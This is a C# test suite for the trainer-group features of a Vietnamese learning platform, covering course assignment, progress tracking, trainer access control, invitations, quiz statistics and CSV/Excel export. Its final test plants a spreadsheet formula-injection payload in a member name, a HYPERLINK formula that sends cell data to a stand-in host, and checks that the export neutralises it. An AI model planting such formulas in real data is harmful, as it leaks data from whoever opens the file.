using System.Net;
using System.Text.RegularExpressions;
using BinhDanHocVuSo.Web.Data;
using BinhDanHocVuSo.Web.Features.Accounts;
using BinhDanHocVuSo.Web.Features.Groups;
using BinhDanHocVuSo.Web.Features.Learning;
using BinhDanHocVuSo.Web.Hosting;
using BinhDanHocVuSo.Web.Tests.Support;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace BinhDanHocVuSo.Web.Tests.Features.Groups;

public sealed partial class GroupsSpec(SqlitePlatform shared) : PlatformSpec(shared), IClassFixture<SqlitePlatform>
{
    /// <summary>The member joins the group themselves with its code, as the trainer's join link lets them.</summary>
    async Task JoinAsync(Guid group, People.Person member)
    {
        string code;
        using (var scope = Platform.Services.CreateScope())
        {
            code = (await scope.ServiceProvider.GetRequiredService<AppDbContext>().Groups.SingleAsync(g => g.Id == group)).JoinCode;
        }
        var browser = await Platform.SignedInAs(member);
        (await browser.SubmitFormAsync($"/join/{code}", [])).StatusCode.Should().Be(HttpStatusCode.Redirect);
    }

    static Task<HttpResponseMessage> Post(HttpClient browser, Guid group, string handler, Dictionary<string, string> fields) =>
        browser.SubmitFormAsync($"/groups/{group}?handler={handler}", fields, $"/groups/{group}");

    /// <summary>Adds a new member to the group and returns how to make them submit the first lesson quiz of "khoa-mau".</summary>
    async Task<Func<bool, Task>> MemberTakingTheFirstQuiz(HttpClient trainer, Guid group)
    {
        var quiz = Platform.Services.GetRequiredService<BinhDanHocVuSo.Web.Features.Courses.ICourseCatalogSource>().Current
            .Find("khoa-mau")!.Lessons[0].Quiz!;
        var member = await Platform.CreateAsync();
        await JoinAsync(group, member);
        return async wrongOnFirstQuestion =>
        {
            var answers = Answers.AllRight(quiz).ToDictionary(a => a.Key, a => a.Value);
            if (wrongOnFirstQuestion)
            {
                answers["b1-1"] = ["a"];
            }
            await Platform.Grains.GetGrain<ILearnerGrain>(member.Id).SubmitQuiz(new QuizSubmission(Guid.NewGuid(), "khoa-mau", quiz.Id, answers));
        };
    }

    static string Cell(string page, string memberName) =>
        CellPattern().Match(page[page.IndexOf(memberName, StringComparison.Ordinal)..]).Groups[1].Value;

    [GeneratedRegex("<td class=\"[a-z]+\">([^<]+)</td>")]
    private static partial Regex CellPattern();

    [Fact]
    public async Task A_members_progress_in_an_assigned_course_appears_in_the_grid_and_becomes_overdue_after_the_due_date()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var member = await Platform.CreateAsync();
        var memberBrowser = await Platform.SignedInAs(member);
        await JoinAsync(group, member);
        await Post(trainer, group, "Assign", new() { ["course"] = "khoa-mau", ["due"] = "2026-11-30" });

        var before = await trainer.GetStringAsync($"/groups/{group}");
        await memberBrowser.MarkLessonDoneAsync("khoa-mau", "bai-hai");
        var started = await trainer.GetStringAsync($"/groups/{group}");
        Platform.Clock.Advance(TimeSpan.FromDays(8));
        var late = await trainer.GetStringAsync($"/groups/{group}");

        var name = $"Người thử {member.Phone[^4..]}";
        Cell(before, name).Should().Be("Chưa bắt đầu");
        Cell(started, name).Should().Be("Đang học");
        Cell(late, name).Should().Be("Quá hạn");
        late.Should().Contain("Hạn 30/11/2026");
    }

    [Fact]
    public async Task A_trainer_cannot_see_or_change_another_trainers_group()
    {
        var (_, group) = await Platform.TrainerWithGroupAsync();
        var other = await Platform.SignedInAs(await Platform.CreateAsync(Roles.Trainer));

        var look = await other.GetAsync($"/groups/{group}");
        var export = await other.GetAsync($"/groups/{group}?handler=export&format=csv");
        var list = await other.GetStringAsync("/groups");
        var token = Regex.Match(list, "name=\"__RequestVerificationToken\"[^>]*?value=\"([^\"]+)\"").Groups[1].Value;
        var assign = await other.PostAsync($"/groups/{group}?handler=Assign",
            new FormUrlEncodedContent(new Dictionary<string, string> { ["course"] = "khoa-mau", ["__RequestVerificationToken"] = token }));

        look.StatusCode.Should().Be(HttpStatusCode.NotFound);
        export.StatusCode.Should().Be(HttpStatusCode.NotFound);
        list.Should().NotContain("Tổ 1 thôn Nà Vài");
        assign.StatusCode.Should().Be(HttpStatusCode.NotFound);
        using var scope = Platform.Services.CreateScope();
        (await scope.ServiceProvider.GetRequiredService<AppDbContext>().Assignments.CountAsync()).Should().Be(0);
    }

    [Fact]
    public async Task A_co_trainer_of_the_groups_commune_added_to_the_group_sees_it_and_others_get_one_answer()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var coTrainer = await Platform.CreateAsync(Roles.Trainer);
        var learner = await Platform.CreateAsync();
        var trainerElsewhere = await Platform.CreateAsync(Roles.Trainer, People.OtherCommune);

        var asLearner = await Post(trainer, group, "AddTrainer", new() { ["phone"] = learner.Phone });
        var asUnknown = await Post(trainer, group, "AddTrainer", new() { ["phone"] = People.NewPhone() });
        var asElsewhere = await Post(trainer, group, "AddTrainer", new() { ["phone"] = trainerElsewhere.Phone });
        await Post(trainer, group, "AddTrainer", new() { ["phone"] = coTrainer.Phone });

        foreach (var refused in new[] { asLearner, asUnknown, asElsewhere })
        {
            refused.StatusCode.Should().Be(HttpStatusCode.BadRequest);
            Alert(await refused.Content.ReadAsStringAsync()).Should().Be(
                "Không thêm được: số điện thoại này không phải của một người phụ trách được giao xã, phường của nhóm.");
        }
        (await (await Platform.SignedInAs(coTrainer)).GetAsync($"/groups/{group}")).StatusCode.Should().Be(HttpStatusCode.OK);
        (await (await Platform.SignedInAs(trainerElsewhere)).GetAsync($"/groups/{group}")).StatusCode.Should().Be(HttpStatusCode.NotFound);
    }

    static string Alert(string page) => WebUtility.HtmlDecode(AlertPattern().Match(page).Groups[1].Value);

    [GeneratedRegex("role=\"alert\">([^<]*)</p>")]
    private static partial Regex AlertPattern();

    [Fact]
    public async Task A_person_joins_with_the_groups_code_and_unassigning_keeps_their_progress()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var page = await trainer.GetStringAsync($"/groups/{group}");
        var code = Regex.Match(page, "/join/([A-Z0-9]{6})").Groups[1].Value;
        var member = await Platform.CreateAsync();
        var memberBrowser = await Platform.SignedInAs(member);

        var joined = await memberBrowser.SubmitFormAsync($"/join/{code}", []);
        await Post(trainer, group, "Assign", new() { ["course"] = "khoa-mau", ["due"] = "" });
        await memberBrowser.MarkLessonDoneAsync("khoa-mau", "bai-hai");
        await Post(trainer, group, "Unassign", new() { ["course"] = "khoa-mau" });
        var progress = await memberBrowser.GetStringAsync("/api/progress/khoa-mau");

        joined.StatusCode.Should().Be(HttpStatusCode.Redirect);
        (await trainer.GetStringAsync($"/groups/{group}")).Should().Contain("1 thành viên").And.Contain("Nhóm chưa được giao khoá học nào");
        progress.Should().Contain("bai-hai");
    }

    [Fact]
    public async Task The_dashboard_shows_which_questions_most_members_got_wrong_and_exports_to_csv_and_excel()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        await Post(trainer, group, "Assign", new() { ["course"] = "khoa-mau" });
        for (var i = 0; i < 3; i++)
        {
            var submit = await MemberTakingTheFirstQuiz(trainer, group);
            await submit(i < 2);
        }

        var page = await trainer.GetStringAsync($"/groups/{group}");
        var csv = await trainer.GetStringAsync($"/groups/{group}?handler=export&format=csv");
        var xlsx = await trainer.GetByteArrayAsync($"/groups/{group}?handler=export&format=xlsx");

        page.Should().Contain("2 sai / 3 lượt").And.Contain("Khi có người lạ xin mã OTP");
        page.IndexOf("2 sai / 3 lượt", StringComparison.Ordinal).Should().BeLessThan(page.IndexOf("0 sai / 3 lượt", StringComparison.Ordinal));
        csv.Should().Contain("Khoá học mẫu").And.Contain("Đang học");
        xlsx.Take(2).Should().Equal((byte)'P', (byte)'K');
    }

    [Fact]
    public async Task Quiz_figures_are_a_snapshot_of_at_most_two_minutes_and_a_new_assignment_shows_at_once()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        await Post(trainer, group, "Assign", new() { ["course"] = "khoa-mau" });
        var submit = await MemberTakingTheFirstQuiz(trainer, group);

        await submit(true);
        var first = await trainer.GetStringAsync($"/groups/{group}");
        await submit(true);
        var soon = await trainer.GetStringAsync($"/groups/{group}");
        Platform.Clock.Advance(GroupQuizStatsGrain.FreshFor);
        var refreshed = await Eventually(async () => await trainer.GetStringAsync($"/groups/{group}"), page => page.Contains("2 sai / 2 lượt"));

        first.Should().Contain("1 sai / 1 lượt");
        soon.Should().Contain("1 sai / 1 lượt", "the snapshot is less than two minutes old");
        refreshed.Should().Contain("2 sai / 2 lượt");
    }

    [Fact]
    public async Task Assigning_a_course_shows_its_quiz_figures_on_the_next_view()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var submit = await MemberTakingTheFirstQuiz(trainer, group);
        await submit(true);

        var unassigned = await trainer.GetStringAsync($"/groups/{group}");
        await Post(trainer, group, "Assign", new() { ["course"] = "khoa-mau" });
        var assigned = await trainer.GetStringAsync($"/groups/{group}");

        unassigned.Should().NotContain("sai / 1 lượt");
        assigned.Should().Contain("1 sai / 1 lượt");
    }

    /// <summary>Asks again (up to 10 s) until the answer passes: for work the platform finishes in the background.</summary>
    static async Task<string> Eventually(Func<Task<string>> ask, Func<string, bool> done)
    {
        var until = DateTime.UtcNow.AddSeconds(10);
        var answer = await ask();
        while (!done(answer) && DateTime.UtcNow < until)
        {
            await Task.Delay(50);
            answer = await ask();
        }
        return answer;
    }

    [Fact]
    public async Task A_group_of_five_thousand_members_with_three_assigned_courses_renders_its_figures()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var now = Platform.Clock.GetUtcNow().UtcDateTime;
        using (var scope = Platform.Services.CreateScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
            foreach (var course in new[] { "khoa-mau", "khoa-b", "khoa-c" })
            {
                db.Assignments.Add(new AssignmentRow { GroupId = group, CourseSlug = course, AssignedAt = now, DueAt = now.AddDays(-1) });
            }
            for (var i = 0; i < 5000; i++)
            {
                var learner = Guid.NewGuid();
                db.GroupMembers.Add(new GroupMemberRow { GroupId = group, LearnerId = learner, JoinedAt = now });
                if (i % 4 == 0)
                {
                    db.CourseEnrolments.Add(new CourseEnrolmentRow { LearnerId = learner, CourseSlug = "khoa-mau", StartedAt = now, CompletedAt = now });
                }
            }
            await db.SaveChangesAsync();
        }

        var page = await trainer.GetStringAsync($"/groups/{group}");

        page.Should().Contain("5000 thành viên").And.Contain("Trang 1/100").And.Contain("Tỉ lệ hoàn thành: 8");
        Regex.Matches(page, "<td class=\"done\">").Count.Should().BeLessThanOrEqualTo(50);
    }

    [Fact]
    public async Task A_trainer_cannot_create_a_group_for_another_commune()
    {
        var trainer = await Platform.SignedInAs(await Platform.CreateAsync(Roles.Trainer));

        var form = await trainer.GetStringAsync("/groups");
        var refused = await trainer.SubmitFormAsync("/groups", new() { ["Name"] = "Tổ xã khác", ["Commune"] = People.OtherCommune });

        form.Should().Contain($"value=\"{People.Commune}\"").And.NotContain($"value=\"{People.OtherCommune}\"");
        refused.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        Alert(await refused.Content.ReadAsStringAsync()).Should().Be("Bạn chỉ được tạo nhóm ở xã, phường mà quản trị viên đã giao cho bạn.");
        using var scope = Platform.Services.CreateScope();
        (await scope.ServiceProvider.GetRequiredService<AppDbContext>().Groups.CountAsync()).Should().Be(0);
    }

    [Fact]
    public async Task Adding_a_member_by_phone_does_not_reveal_whether_the_number_has_an_account()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var registered = await Platform.CreateAsync();
        var unknown = People.NewPhone();

        var toRegistered = await Post(trainer, group, "AddMember", new() { ["phone"] = registered.Phone });
        var toUnknown = await Post(trainer, group, "AddMember", new() { ["phone"] = unknown });
        var again = await Post(trainer, group, "AddMember", new() { ["phone"] = registered.Phone });

        string Answer(string page, string phone) => Alert(page).Replace(PhoneNumber.Display(phone), "…", StringComparison.Ordinal);
        var answers = new[]
        {
            Answer(await toRegistered.Content.ReadAsStringAsync(), registered.Phone),
            Answer(await toUnknown.Content.ReadAsStringAsync(), unknown),
            Answer(await again.Content.ReadAsStringAsync(), registered.Phone),
        };
        new[] { toRegistered.StatusCode, toUnknown.StatusCode, again.StatusCode }.Should().OnlyContain(c => c == HttpStatusCode.OK);
        answers.Should().OnlyContain(a => a == answers[0]);
        answers[0].Should().StartWith("Nếu số … có tài khoản").And.Contain("/join/");
    }

    [Fact]
    public async Task A_citizen_is_not_added_to_a_group_without_accepting()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var citizen = await Platform.CreateAsync();
        var elsewhere = await Platform.CreateAsync(commune: People.OtherCommune);

        await Post(trainer, group, "AddMember", new() { ["phone"] = citizen.Phone });
        await Post(trainer, group, "AddMember", new() { ["phone"] = elsewhere.Phone });
        var invitedPage = await trainer.GetStringAsync($"/groups/{group}");
        var citizenBrowser = await Platform.SignedInAs(citizen);
        var invitations = await citizenBrowser.GetStringAsync("/join");
        var elsewhereInvitations = await (await Platform.SignedInAs(elsewhere)).GetStringAsync("/join");
        var accepted = await citizenBrowser.SubmitFormAsync($"/join?handler=Accept&group={group}", [], "/join");

        invitedPage.Should().Contain("0 thành viên", "an invitation is not a membership");
        invitations.Should().Contain("Bạn được mời vào nhóm &quot;Tổ 1 thôn Nà Vài&quot;");
        elsewhereInvitations.Should().NotContain("Tổ 1 thôn Nà Vài", "a trainer invites only people of the communes assigned to them");
        accepted.StatusCode.Should().Be(HttpStatusCode.Redirect);
        (await trainer.GetStringAsync($"/groups/{group}")).Should().Contain("1 thành viên");
        using var scope = Platform.Services.CreateScope();
        var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
        (await db.GroupMembers.Where(m => m.GroupId == group).Select(m => m.LearnerId).ToListAsync()).Should().Equal(citizen.Id);
        (await db.GroupInvitations.CountAsync()).Should().Be(0, "the accepted invitation is used up and the other was never made");
    }

    [Fact]
    public async Task A_member_named_like_a_formula_is_exported_to_csv_as_text()
    {
        var (trainer, group) = await Platform.TrainerWithGroupAsync();
        var member = await Platform.CreateAsync();
        using (var scope = Platform.Services.CreateScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
            var user = await db.Users.SingleAsync(u => u.Id == member.Id);
            user.FullName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";
            await db.SaveChangesAsync();
        }
        await JoinAsync(group, member);

        var csv = await trainer.GetStringAsync($"/groups/{group}?handler=export&format=csv");

        csv.Should().Contain("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\"");
        csv.Should().NotContain(",=HYPERLINK").And.NotContain("\n=HYPERLINK");
    }
}
